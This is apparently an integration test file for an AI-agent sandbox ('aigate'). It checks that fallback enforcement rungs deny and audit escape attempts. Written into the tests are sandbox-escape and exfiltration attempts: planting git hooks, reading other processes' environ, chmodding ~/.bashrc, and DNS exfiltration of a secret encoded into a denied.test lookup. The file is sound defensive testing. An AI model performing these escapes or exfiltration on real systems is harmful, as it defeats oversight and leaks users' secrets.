# shellcheck shell=bash
# shellcheck disable=SC2016,SC2034,SC2317 # $… in single quotes is for the sandbox's shell; AG_ENV/NOTE/LAST_CMD/STATUS are read by lib.sh; cases are called by run.sh
# test_ladder.sh — the fallback ladder (issue 9, docs/fallback.md), tested on
# this machine as the issue asks: rung 2 by running aigate where neither a
# user nor a mount namespace can be made (tests/integration/no_userns.sh:
# inside a user namespace whose user.max_user_namespaces is 0, every
# capability dropped, SECBIT_NOROOT locked), rung 3 by also taking Landlock
# away (AIGATE_TEST_NO_LANDLOCK=1, the documented test-only switch).
#
# The red-team cases of test_supervisor.sh that the rungs claim to stop are
# run again on each rung, unchanged (their assertions: the denial and its
# audit record). The cases below them test what the flat rungs do instead of
# mounts: the write roots kept by the supervisor and Landlock, what stays
# read-only inside them, /proc of other processes, nothing outliving the
# run, the private TMPDIR, and the refusals with their fixes.

# shellcheck source=tests/integration/test_supervisor.sh
. "$HERE/test_supervisor.sh"
# shellcheck source=tests/integration/test_net.sh
. "$HERE/test_net.sh"

# The red-team cases, per rung (functions of test_supervisor.sh).
test_ladder_rung2_cat_env_denied() { use_rung 2 && test_supervisor_cat_env_denied; }
test_ladder_rung2_static_open_denied() { use_rung 2 && test_supervisor_static_open_denied; }
test_ladder_rung3_static_open_denied() { use_rung 3 && test_supervisor_static_open_denied; }
test_ladder_rung2_open_race() { use_rung 2 && test_supervisor_open_race; }
test_ladder_rung3_open_race() { use_rung 3 && test_supervisor_open_race; }
test_ladder_rung2_exec_argv_race() { use_rung 2 && test_supervisor_exec_argv_race; }
test_ladder_rung3_exec_argv_race() { use_rung 3 && test_supervisor_exec_argv_race; }
test_ladder_rung2_exec_argv_denied() { use_rung 2 && test_supervisor_exec_argv_denied; }
test_ladder_rung3_exec_argv_denied() { use_rung 3 && test_supervisor_exec_argv_denied; }
test_ladder_rung2_links_into_denied_file() { use_rung 2 && test_supervisor_links_into_denied_file; }
test_ladder_rung3_links_into_denied_file() { use_rung 3 && test_supervisor_links_into_denied_file; }
test_ladder_rung2_link_probe() { use_rung 2 && test_supervisor_link_probe; }
test_ladder_rung3_link_probe() { use_rung 3 && test_supervisor_link_probe; }
test_ladder_rung2_memfd_exec() { use_rung 2 && test_supervisor_memfd_exec; }
test_ladder_rung3_memfd_exec() { use_rung 3 && test_supervisor_memfd_exec; }
test_ladder_rung2_denied_name_created_inside() { use_rung 2 && test_supervisor_denied_name_created_inside; }
test_ladder_rung3_denied_name_created_inside() { use_rung 3 && test_supervisor_denied_name_created_inside; }
test_ladder_rung2_codex_auth_denied() { use_rung 2 && test_supervisor_codex_auth_denied; }
test_ladder_rung2_proc_self_links() { use_rung 2 && test_supervisor_proc_self_links; }

# ladder_setup RUNG — the enforceable default policy, an audit log, a .env.
ladder_setup() {
	sup_setup
	use_rung "$1"
}

# The session says which rung it ran on.
test_ladder_rung2_session_record() {
	ladder_setup 2
	ag_sup true
	assert_status 0
	assert_stderr_empty
	assert_audit "$AUDIT" action=session_start "enforcement=no user namespaces"
}

# Outside the write roots: the supervisor refuses what it would write
# (open, creat, rename, link, symlink, unlink, truncate) and Landlock what
# the kernel does alone (mkdir); each denial is recorded.
test_ladder_rung2_write_outside_roots() {
	ladder_setup 2
	# Outside every write root and not below /tmp (a home there is kept read-only).
	make_stable_dir
	local d=$STABLE
	write_file "$d/a.txt" <<<"keep"
	chown -R "$TEST_UID:$TEST_GID" "$d" 2>/dev/null
	ag_sup sh -c "echo x >$d/b.txt; echo create=\$?
		ln -s /etc/passwd $d/l 2>/dev/null; echo symlink=\$?
		mv $d/a.txt $d/c.txt 2>/dev/null; echo rename=\$?
		rm -f $d/a.txt; echo unlink=\$?
		mkdir $d/d 2>/dev/null; echo mkdir=\$?
		echo ok >in-project.txt; cat in-project.txt"
	assert_status 0
	assert_stdout_contains "create=2"
	assert_stdout_contains "symlink=1"
	assert_stdout_contains "rename=1"
	assert_stdout_contains "unlink=1"
	assert_stdout_contains "mkdir=1"
	assert_stdout_contains "ok"
	assert_file_contains "$d/a.txt" "keep"
	[ ! -e "$d/b.txt" ] && [ ! -e "$d/d" ] && [ ! -L "$d/l" ] ||
		fail "a file, link or directory was made outside the write roots"
	assert_audit "$AUDIT" action=open verdict=denied enforcer=supervisor errno=EACCES \
		"target=$d/b.txt" "rule.text=allow_write (outside every write root)"
	assert_audit "$AUDIT" action=symlink verdict=denied errno=EACCES "target=$d/l"
	assert_audit "$AUDIT" action=rename verdict=denied errno=EACCES "target=$d/a.txt"
	assert_audit "$AUDIT" action=unlink verdict=denied errno=EACCES "target=$d/a.txt"
}

# Rung 3 has no Landlock: the supervisor's calls are still refused; mkdir
# is not (the documented gap the refusal names).
test_ladder_rung3_write_outside_roots() {
	ladder_setup 3
	make_stable_dir
	local d=$STABLE
	ag_sup sh -c "echo x >$d/b.txt; echo create=\$?; mkdir $d/d; echo mkdir=\$?"
	assert_status 0
	assert_stdout_contains "create=2"
	assert_stdout_contains "mkdir=1"
	[ ! -e "$d/b.txt" ] && [ ! -e "$d/d" ] || fail "a file or directory was made outside the write roots"
	assert_stderr_contains "allow_write cannot be enforced at rung 3"
	assert_audit "$AUDIT" action=open verdict=denied errno=EACCES "target=$d/b.txt"
	assert_audit "$AUDIT" action=mkdir verdict=denied errno=EACCES "target=$d/d"
}

# Inside the project, what the host will run stays read-only: a hook
# (planted directly, through a symlink made first, or by moving .git
# aside) and git's config.
test_ladder_rung2_git_hooks_read_only() {
	ladder_setup 2
	ag_sup sh -c 'echo "#!/bin/sh" >.git/hooks/pre-commit; echo direct=$?
		ln -s .git/hooks h && echo "#!/bin/sh" >h/post-checkout; echo via_link=$?
		mv .git .git-aside 2>/dev/null; echo move_git=$?
		echo "[core] hooksPath=/tmp" >>.git/config; echo config=$?'
	assert_status 0
	assert_stdout_contains "direct=2"
	assert_stdout_contains "via_link=2"
	assert_stdout_contains "move_git=1"
	assert_stdout_contains "config=2"
	[ ! -e "$PROJ/.git/hooks/pre-commit" ] && [ ! -e "$PROJ/.git/hooks/post-checkout" ] &&
		[ -d "$PROJ/.git" ] || fail "a hook was planted or .git moved"
	assert_audit "$AUDIT" action=open verdict=denied errno=EROFS \
		"target=$PROJ/.git/hooks/pre-commit"
	assert_audit "$AUDIT" action=rename verdict=denied errno=EBUSY "target=$PROJ/.git"
}

test_ladder_rung3_git_hooks_read_only() {
	ladder_setup 3
	ag_sup sh -c 'echo "#!/bin/sh" >.git/hooks/pre-commit; echo direct=$?'
	assert_stdout_contains "direct=2"
	[ ! -e "$PROJ/.git/hooks/pre-commit" ] || fail "a hook was planted"
	assert_audit "$AUDIT" action=open verdict=denied errno=EROFS \
		"target=$PROJ/.git/hooks/pre-commit"
}

# A hard link made inside is a new name for the same file: a link to
# .git/config or to a file outside the write roots would be a writable
# alias of it (found by a security review); refused, recorded.
test_ladder_rung2_hard_link_alias() {
	ladder_setup 2
	ag_sup sh -c 'ln .git/config cfg; echo git_config=$?; ln "$HOME/.aigate/config.yaml" pol 2>/dev/null; echo policy=$?'
	assert_status 0
	assert_stdout_contains "git_config=1"
	assert_stdout_contains "policy=1"
	[ ! -e "$PROJ/cfg" ] || fail "a link to .git/config was made"
	assert_audit "$AUDIT" action=link verdict=denied errno=EROFS "target=$PROJ/.git/config"
}

# No PID namespace hides the user's other processes: their /proc files are
# refused (environ would show their secrets), and (Landlock ABI 6) they
# cannot be signalled.
test_ladder_rung2_other_processes() {
	ladder_setup 2
	local abi
	abi=$("$PYTHON" -c 'import ctypes; print(ctypes.CDLL(None).syscall(444, None, 0, 1))')
	sleep 300 &
	local victim=$!
	ag_sup sh -c "cat /proc/$victim/environ >/dev/null; echo environ=\$?; kill -0 $victim; echo kill=\$?"
	kill "$victim"
	wait "$victim" 2>/dev/null
	assert_status 0
	assert_stdout_contains "environ=1"
	assert_audit "$AUDIT" action=open verdict=denied "target=/proc/$victim/environ"
	if [ "$abi" -ge 6 ]; then
		assert_stdout_contains "kill=1"
	fi
}

# Another process's descriptors through /proc/PID/fd (found by a security
# review; pidfd_getfd is denied by the filter on every rung): refused, and
# recorded, on rung 3 too.
test_ladder_rung3_other_process_fds() {
	ladder_setup 3
	write_file "$T/secret.txt" <<<"fd-secret-6c1e"
	local holder
	# The user's own process, outside the sandbox, holding the file open.
	"${AS_USER[@]}" sleep 300 7<"$T/secret.txt" &
	holder=$!
	ag_sup sh -c "cat /proc/$holder/fd/7; echo fd=\$?"
	kill "$holder"
	wait "$holder" 2>/dev/null
	assert_stdout_contains "fd=1"
	assert_stdout_not_contains "fd-secret-6c1e"
	assert_audit "$AUDIT" action=open verdict=denied "target=/proc/$holder/fd/7"
}

# What the agent starts in the background does not outlive the run, and
# the private TMPDIR is removed with everything in it.
test_ladder_rung2_nothing_outlives_the_run() {
	ladder_setup 2
	ag_sup sh -c 'echo "$TMPDIR"; echo data >"$TMPDIR/f"; (setsid sleep 1000 </dev/null >/dev/null 2>&1 &); echo started'
	assert_status 0
	assert_stdout_contains "started"
	local tmpdir
	tmpdir=$(head -n1 "$OUT")
	case "$tmpdir" in /tmp/aigate-*) ;; *) fail "TMPDIR is not a private directory: $tmpdir" ;; esac
	[ ! -e "$tmpdir" ] || fail "the private TMPDIR $tmpdir was left behind"
	if pgrep -u "$TEST_UID" -f "sleep 1000" >/dev/null; then
		pkill -u "$TEST_UID" -f "sleep 1000"
		fail "a background process outlived the run"
	fi
}

# Rung 3 refuses without --allow-degraded, naming each gap and the fix.
test_ladder_rung3_refuses() {
	ladder_setup 3
	AG_RUN_OPTS=(--no-shim)
	ag_sup true
	assert_status 125
	assert_stderr_contains "allow_write cannot be enforced at rung 3 (no user namespaces, no Landlock)"
	assert_stderr_contains "process isolation cannot be enforced at rung 3"
	assert_stderr_contains "Fix: sysctl user.max_user_namespaces=15000"
	assert_stderr_contains "Or pass --allow-degraded"
}

# chmod and setxattr (sup_attr.c): with no read-only mount and no Landlock
# right for them, the supervisor keeps the protected paths' modes and ACLs:
# ~/.bashrc cannot be made writable for every user, nor a dormant hook
# executable, by path or through a descriptor; the project's own files
# change as before. Each refusal is EROFS and a record.
ladder_chmod_case() {
	ladder_setup "$1"
	write_file "$HOME_DIR/.bashrc" <<<"# the user's"
	chmod 0644 "$HOME_DIR/.bashrc"
	write_file "$PROJ/.git/hooks/pre-push" <<<"#!/bin/sh"
	chmod 0644 "$PROJ/.git/hooks/pre-push"
	chown "$TEST_UID:$TEST_GID" "$HOME_DIR/.bashrc" "$PROJ/.git/hooks/pre-push" 2>/dev/null
	ag_sup python3 -c "$PY_ATTEMPT"'
rc = os.path.expanduser("~/.bashrc")
attempt("chmod-rc", lambda: os.chmod(rc, 0o666))
fd = os.open(rc, os.O_RDONLY)
attempt("fchmod-rc", lambda: os.fchmod(fd, 0o666))
attempt("acl-rc", lambda: os.setxattr(rc, "user.aigate", b"x"))
attempt("chmod-hook", lambda: os.chmod(".git/hooks/pre-push", 0o755))
attempt("chmod-own", lambda: os.chmod("ok.txt", 0o600))
attempt("xattr-own", lambda: os.setxattr("ok.txt", "user.aigate", b"x"))
attempt("chown-rc", lambda: os.chown(rc, -1, os.getgid()))
attempt("rmxattr-rc", lambda: os.removexattr(rc, "user.aigate"))
os.umask(0)
attempt("mknod-hook", lambda: os.mknod(".git/hooks/pre-commit", 0o100777))
attempt("mkdir-hooks", lambda: os.mkdir(".git/hooks/sub", 0o777))
attempt("rmdir-hooks", lambda: os.rmdir(".git/hooks"))
attempt("chmod-git", lambda: os.chmod(".git", 0o777))
attempt("mkdir-own", lambda: os.mkdir("d", 0o777))
print("own-mode", oct(os.stat("d").st_mode & 0o777))'
	assert_status 0
	assert_stdout_contains "chmod-rc EROFS"
	assert_stdout_contains "fchmod-rc EROFS"
	assert_stdout_contains "acl-rc EROFS"
	assert_stdout_contains "chmod-hook EROFS"
	assert_stdout_contains "chmod-own ok"
	assert_stdout_contains "chown-rc EROFS"
	assert_stdout_contains "rmxattr-rc EROFS"
	assert_stdout_contains "mknod-hook EROFS"
	assert_stdout_contains "mkdir-hooks EROFS"
	assert_stdout_contains "rmdir-hooks EROFS"
	assert_stdout_contains "chmod-git EPERM"
	assert_stdout_contains "mkdir-own ok"
	assert_stdout_contains "own-mode 0o777"
	[ ! -e "$PROJ/.git/hooks/pre-commit" ] && [ ! -e "$PROJ/.git/hooks/sub" ] ||
		fail "a hook was planted through mknod or mkdir"
	assert_audit "$AUDIT" action=mknod verdict=denied errno=EROFS "target=$PROJ/.git/hooks/pre-commit"
	assert_audit "$AUDIT" action=chmod verdict=denied errno=EPERM "target=$PROJ/.git" \
		"rule.text=~holds a read-only path"
	assert_eq "$(stat -c %a "$HOME_DIR/.bashrc")" 644 "mode of ~/.bashrc"
	assert_eq "$(stat -c %a "$PROJ/.git/hooks/pre-push")" 644 "mode of the hook"
	assert_eq "$(stat -c %a "$PROJ/ok.txt")" 600 "mode of the project's own file"
	assert_audit "$AUDIT" action=chmod verdict=denied errno=EROFS "target=$HOME_DIR/.bashrc"
	assert_audit "$AUDIT" action=chmod verdict=denied errno=EROFS "target=$PROJ/.git/hooks/pre-push"
	assert_audit "$AUDIT" action=setxattr verdict=denied errno=EROFS "target=$HOME_DIR/.bashrc"
}
test_ladder_rung2_chmod_protected() { ladder_chmod_case 2; }
test_ladder_rung3_chmod_protected() { ladder_chmod_case 3; }

# ---- allow_net without a network namespace (sup_net.c, docs/fallback.md) ----------
# test_net.sh's servers: dnsmasq as the host's resolver, a web server on
# the host's loopback (allowed.test), a host listener where needed.

# ladder_net_setup RUNG [net_cfg ARGS…] — test_net.sh's net_setup, on RUNG.
ladder_net_setup() {
	local rung=$1
	shift
	net_setup "$@"
	use_rung "$rung"
}

# assert_flat_proxy_vars — the proxy variables name aigate's listeners on
# the host's 127.0.0.1 at the ports the kernel picked (not rung 1's 3128).
assert_flat_proxy_vars() {
	grep -qE '^proxy=http://127\.0\.0\.1:[0-9]+$' "$OUT" || fail "HTTP_PROXY should name aigate's proxy on 127.0.0.1"
	assert_stdout_not_contains "proxy=http://127.0.0.1:3128"
}

# Rung 2: through the proxy an allowed name works (1 MiB intact) and a
# denied one gets 403. A direct connect (curl --noproxy) to a server the
# host reaches is refused by the supervisor and recorded: to the TLS port
# allow_net lacks, and to the allowed port too before any name led there
# (after the proxy resolved allowed.test, its address on that port is an
# allowed destination, carried out from outside as at rung 1). Names do
# not resolve inside (no UDP socket: recorded) and a secret spelt into one
# never reaches the host's resolver.
test_ladder_rung2_allow_net_proxy() {
	ladder_net_setup 2 --tls --private "allowed.test:8080"
	head -c 64 /dev/urandom | base64 | write_file "$PROJ/.secret"
	local label
	label=$(head -c20 "$PROJ/.secret" | base32 | tr -d = | tr '[:upper:]' '[:lower:]')
	ag run --audit-log "$AUDIT" -- sh -c 'echo "proxy=$HTTP_PROXY"
curl -s --noproxy "*" -o /dev/null "http://$1:8080/hello.txt"; echo "direct-before $?"
curl -sS -o blob.out -w "allowed %{http_code}\n" http://allowed.test:8080/blob
curl -s -o /dev/null -w "denied %{http_code}\n" http://denied.test:8080/
curl -s --noproxy "*" -o /dev/null "http://$1:8080/hello.txt"; echo "direct-after $?"
curl -sk --noproxy "*" -o /dev/null "https://$1:8443/"; echo "direct-tls $?"
getent hosts "$(head -c20 .secret | base32 | tr -d = | tr "[:upper:]" "[:lower:]").denied.test"; echo "exfil $?"' sh "$WEB_ADDR"
	assert_status 0
	assert_flat_proxy_vars
	assert_stdout_contains "direct-before 7"
	assert_stdout_contains "allowed 200"
	assert_eq "$(checksum "$PROJ/blob.out")" "$(checksum "$WWW/blob")" "the file through the proxy"
	assert_stdout_contains "denied 403"
	assert_stdout_contains "direct-after 0"
	assert_stdout_contains "direct-tls 7"
	assert_stdout_contains "exfil 2"
	assert_net_denied "$AUDIT" action=connect enforcer=supervisor syscall=connect \
		"target=$WEB_ADDR:8443" errno=ECONNREFUSED
	assert_stderr_contains "allow_net at rung 2 (no user namespaces): the sandbox reaches the network only through aigate's proxy"
	assert_net_denied "$AUDIT" action=connect enforcer=proxy target=denied.test:8080 \
		"reason=~allow_net lacks denied.test:8080"
	assert_net_denied "$AUDIT" action=connect enforcer=supervisor syscall=connect \
		"target=$WEB_ADDR:8080" errno=ECONNREFUSED "reason=~only through aigate's proxy"
	assert_net_denied "$AUDIT" action=connect enforcer=supervisor syscall=socket \
		"target=a UDP socket" errno=EACCES
	assert_audit "$AUDIT" action=session_start "enforcement=no user namespaces"
	assert_dns_not_forwarded "$label"
}

# Rung 2: no UDP, no listener on every address of the host (a way in for
# anyone on the network), no abstract unix socket of the host's (one
# listens outside); a listener on loopback works, and the sandbox talks to
# it. Each refusal is the errno the program sees and a record.
test_ladder_rung2_allow_net_sockets() {
	ladder_net_setup 2 --private "allowed.test:8080"
	local name=aigate-ladder-$RANDOM$RANDOM
	net_unix_listener "@$name" "hello from outside"
	ag run --audit-log "$AUDIT" -- python3 -c '
import ctypes, errno, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.syscall.argtypes = [ctypes.c_long] * 4
def attempt(what, fn):
    try:
        r = fn()
        print(what, "ok" if r is None else r)
    except OSError as e:
        print(what, errno.errorcode[e.errno])
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM) and None)
attempt("udp6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) and None)
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM) and None)
attempt("unix-dgram", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) and None)
attempt("usersock", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2) and None)
attempt("dgram-pair", lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM) and None)
p, q = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
p.send(b"pair")
print("stream-pair", q.recv(4).decode())
attempt("usersock-hibits", lambda: os.close(libc.syscall(41, 16, 3, (1 << 32) | 2)) if libc.syscall(41, 16, 3, (1 << 32) | 2) >= 0 else (_ for _ in ()).throw(OSError(ctypes.get_errno(), "socket")))
r = socket.socket()
attempt("reuseport-on", lambda: r.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1))
attempt("reuseport-off", lambda: r.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 0))
a = socket.socket()
a.bind(("0.0.0.0", 0))
attempt("listen-any", lambda: a.listen())
l = socket.socket()
l.bind(("127.0.0.1", 0))
l.listen()
c = socket.create_connection(("127.0.0.1", l.getsockname()[1]), timeout=10)
s, _ = l.accept()
c.sendall(b"ping")
print("self", s.recv(4).decode())
u = socket.socket(socket.AF_UNIX)
attempt("abstract", lambda: u.connect("\0" + sys.argv[1]))' "$name"
	assert_status 0
	assert_stdout_contains "udp EACCES"
	assert_stdout_contains "udp6 EACCES"
	assert_stdout_contains "vsock EAFNOSUPPORT"
	assert_stdout_contains "unix-dgram EACCES"
	assert_stdout_contains "usersock EACCES"
	assert_stdout_contains "dgram-pair EACCES"
	assert_stdout_contains "stream-pair pair"
	assert_stdout_contains "usersock-hibits EACCES"
	assert_stdout_contains "reuseport-on EACCES"
	assert_stdout_contains "reuseport-off ok"
	assert_stdout_contains "listen-any EACCES"
	assert_stdout_contains "self ping"
	assert_stdout_contains "abstract EACCES"
	assert_net_denied "$AUDIT" enforcer=supervisor syscall=socket "target=a UDP socket" errno=EACCES
	assert_net_denied "$AUDIT" enforcer=supervisor syscall=socket \
		"target=a socket of address family 40" errno=EAFNOSUPPORT
	assert_net_denied "$AUDIT" enforcer=supervisor syscall=listen "target=~0.0.0.0:" errno=EACCES
	assert_net_denied "$AUDIT" enforcer=supervisor syscall=connect \
		"target=an abstract unix socket" errno=EACCES
	assert_net_denied "$AUDIT" enforcer=supervisor syscall=socket \
		"target=a unix datagram socket" errno=EACCES
}

# ladder_tcp_server ADDR PORT|FILE READY LOG [reuseport] — a python3 TCP
# server outside the sandbox that logs what each client sends and answers
# HOST-SERVICE; PORT, or the port written into FILE once it exists.
ladder_tcp_server() {
	write_file "$T/tcpsrv.py" <<'PY'
import os, socket, sys, select
addr, port, ready, log = sys.argv[1:5]
if not port.isdigit():
    # Until the sandbox writes the port it let go of (an inotify-free wait on a file).
    import time
    while not (os.path.exists(port) and open(port).read().strip()):
        time.sleep(0.02)
    port = open(port).read().strip()
s = socket.socket()
if len(sys.argv) > 5:
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
s.bind((addr, int(port)))
s.listen(16)
open(ready, "w").write(port)
while True:
    c, peer = s.accept()
    c.settimeout(5)
    try:
        d = c.recv(100)
    except OSError:
        d = b""
    open(log, "a").write("GOT %r\n" % d)
    try:
        c.sendall(b"HOST-SERVICE\n")
    except OSError:
        pass
    c.close()
PY
	chmod 0644 "$T/tcpsrv.py"
	net_bg "$T/tcpsrv.$RANDOM.log" "${AS_USER_SERVER[@]}" "$PYTHON" "$T/tcpsrv.py" "$@"
}

# From a security review. A listener the sandbox moved (shutdown, bound
# again elsewhere: the same socket) no longer vouches for its old address,
# where a host service now listens; SO_REUSEPORT, which would share a port
# with a host service of the same user, is refused (setsockopt; listen
# checks again). Neither lets a byte reach the host's server (its log
# stays empty).
test_ladder_rung2_allow_net_listener_games() {
	ladder_net_setup 2 --private "allowed.test:8080"
	chmod 0777 "$PROJ"
	AS_USER_SERVER=()
	ladder_tcp_server 127.0.0.99 "$PROJ/port.txt" "$PROJ/ready.txt" "$T/moved.log"
	local rport=$((20000 + RANDOM % 20000))
	chmod 0755 "$T"
	AS_USER_SERVER=(setpriv --reuid "$TEST_UID" --regid "$TEST_GID" --clear-groups --)
	ladder_tcp_server 127.0.0.97 "$rport" "$T/reuse.ready" "$T/reuse.log" reuseport
	wait_until "the SO_REUSEPORT server" test -e "$T/reuse.ready"
	ag run --audit-log "$AUDIT" -- python3 -c '
import errno, os, socket, sys, time
s = socket.socket()
s.bind(("127.0.0.99", 0))
port = s.getsockname()[1]
s.listen(1)
s.shutdown(socket.SHUT_RD)
s.bind(("127.0.0.98", port))
s.listen(1)
open("port.txt", "w").write(str(port))
while not os.path.exists("ready.txt"):
    time.sleep(0.02)
c = socket.socket()
try:
    c.connect(("127.0.0.99", port))
    c.sendall(b"EXFIL-MOVED")
    print("moved", c.recv(100))
except OSError as e:
    print("moved", errno.errorcode[e.errno])
r = socket.socket()
try:
    r.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    print("reuseport ok")
except OSError as e:
    print("reuseport", errno.errorcode[e.errno])
c = socket.socket()
try:
    c.connect(("127.0.0.97", int(sys.argv[1])))
    c.sendall(b"EXFIL-REUSEPORT")
    print("reuse-connect", c.recv(100))
except OSError as e:
    print("reuse-connect", errno.errorcode[e.errno])' "$rport"
	assert_status 0
	assert_stdout_contains "moved ECONNREFUSED"
	assert_stdout_contains "reuseport EACCES"
	assert_stdout_contains "reuse-connect ECONNREFUSED"
	[ ! -s "$T/moved.log" ] && [ ! -s "$T/reuse.log" ] || {
		show_file "host servers" "$T/moved.log" "$T/reuse.log" >&2
		fail "a byte from the sandbox reached a host service"
	}
	assert_net_denied "$AUDIT" enforcer=supervisor syscall=connect "target=~127.0.0.99:" errno=ECONNREFUSED
	assert_net_denied "$AUDIT" enforcer=supervisor syscall=setsockopt target=SO_REUSEPORT errno=EACCES
}

# From a security review: a blocking connect the supervisor carries out
# (here to a full listener of the sandbox's own) waits on a thread of its
# own; the sandbox's other calls go on meanwhile.
test_ladder_rung2_allow_net_blocking_connect() {
	ladder_net_setup 2 --private "allowed.test:8080"
	ag run --audit-log "$AUDIT" -- python3 -c '
import os, socket, threading, time
p = os.path.abspath("full.sock")
l = socket.socket(socket.AF_UNIX)
l.bind(p)
l.listen(0)
a = socket.socket(socket.AF_UNIX)
a.connect(p)
tid = []
def blocked():
    tid.append(threading.get_native_id())
    c = socket.socket(socket.AF_UNIX)
    c.connect(p)
    print("blocked connect returned")
t = threading.Thread(target=blocked, daemon=True)
t.start()
# Until that thread sits in connect(2) (42 on x86_64; trapped or in the kernel).
while not tid or not open("/proc/self/task/%d/syscall" % tid[0]).read().startswith("42 "):
    time.sleep(0.01)
open("/etc/hostname").read()
print("open went on")
a.close()
l.accept()
t.join(10)'
	assert_status 0
	assert_stdout_contains "open went on"
	assert_stdout_contains "blocked connect returned"
}

# Rung 2 under allow_net: a unix socket the host listens on in its /tmp
# (X11, an ssh-agent: rung 1's /tmp is private) is refused and recorded;
# one in the project (a write root) works.
test_ladder_rung2_allow_net_tmp_socket() {
	ladder_net_setup 2 --private "allowed.test:8080"
	local dir
	dir=$(mktemp -d /tmp/aigate-ladder-sock.XXXXXX)
	chmod 0755 "$dir"
	net_unix_listener "$dir/agent.sock" "hello from the host"
	ag run --audit-log "$AUDIT" -- python3 -c '
import errno, socket, sys
u = socket.socket(socket.AF_UNIX)
try:
    u.connect(sys.argv[1])
    print("host", u.recv(100).decode().strip())
except OSError as e:
    print("host", errno.errorcode[e.errno])
l = socket.socket(socket.AF_UNIX)
l.bind("own.sock")
l.listen()
c = socket.socket(socket.AF_UNIX)
c.connect("own.sock")
print("own", "connected")' "$dir/agent.sock"
	local st=$STATUS
	rm -rf "$dir"
	STATUS=$st
	assert_status 0
	assert_stdout_contains "host EACCES"
	assert_stdout_contains "own connected"
	assert_audit "$AUDIT" verdict=denied enforcer=supervisor syscall=connect "target=$dir/agent.sock" \
		"rule.text=private /tmp" errno=EACCES
}

# Rung 3 (the supervisor alone): the same proxy path and the same refusal
# of a direct connect.
test_ladder_rung3_allow_net_proxy() {
	ladder_net_setup 3 --private "allowed.test:8080"
	ag run --audit-log "$AUDIT" -- sh -c 'echo "proxy=$HTTP_PROXY"
curl -s --noproxy "*" -o /dev/null "http://$1:8080/hello.txt"; echo "direct $?"
curl -sS -w " %{http_code}\n" http://allowed.test:8080/hello.txt' sh "$WEB_ADDR"
	assert_status 0
	assert_flat_proxy_vars
	assert_stdout_contains "hello from allowed.test"
	assert_stdout_contains " 200"
	assert_stdout_contains "direct 7"
	assert_net_denied "$AUDIT" action=connect enforcer=supervisor syscall=connect \
		"target=$WEB_ADDR:8080" errno=ECONNREFUSED
	assert_audit "$AUDIT" action=session_start "enforcement=no user namespaces, no Landlock"
}

# The doctor says which rung `run` gets, and why.
test_ladder_rung2_doctor() {
	ladder_setup 2
	ag doctor
	assert_stdout_contains "would get: 2 — no user namespaces"
	assert_stdout_contains "user.max_user_namespaces"
	assert_stdout_contains "allow_net through aigate's proxy only"
	# No user namespace of its own: max_pids cannot be RLIMIT_NPROC counted there.
	grep -qE '^  max_pids +' "$OUT" || fail "doctor should say how max_pids would be enforced"
	assert_stdout_not_contains "RLIMIT_NPROC in the sandbox's user namespace"
}
